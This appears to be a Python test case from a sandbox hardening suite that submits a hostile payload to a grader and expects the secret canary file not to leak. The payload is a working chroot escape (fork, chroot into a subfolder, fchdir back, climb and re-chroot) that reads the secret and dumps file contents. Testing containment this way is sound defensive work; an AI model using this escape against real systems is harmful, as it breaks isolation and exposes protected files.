"""The old way out of a changed root: change it again, then climb. It happens in a child, so that
the kernel keeps its own root.
"""

from hostile.corpus import SECRET_FILE, Case, Expect, strike

EXPECT = Expect(score=10, feedback_absent=(SECRET_FILE,))

PAYLOAD = """
import os

def show(path):
    try:
        with open(path, "rb") as file:
            print("leak:", path, file.read(2000))
    except OSError as error:
        print(path, error.strerror)

def walk(root):
    found = 0
    for folder, _, names in os.walk(root):
        for name in names:
            show(os.path.join(folder, name))
            found += 1
            if found == 50:
                return

os.makedirs("below", exist_ok=True)
child = os.fork()
if child == 0:
    try:
        here = os.open(".", os.O_RDONLY)
        os.chroot("below")
        os.fchdir(here)
        os.chdir("../" * 20)
        os.chroot(".")
        with open(@CANARY@) as file, open("leaked.txt", "w") as copy:
            copy.write(file.read())
    finally:
        os._exit(0)
os.waitpid(child, 0)
show("leaked.txt")
"""


def submit(case: Case) -> None:
    strike(case, PAYLOAD, solved=("total", "receipt", "quiz-sum"))
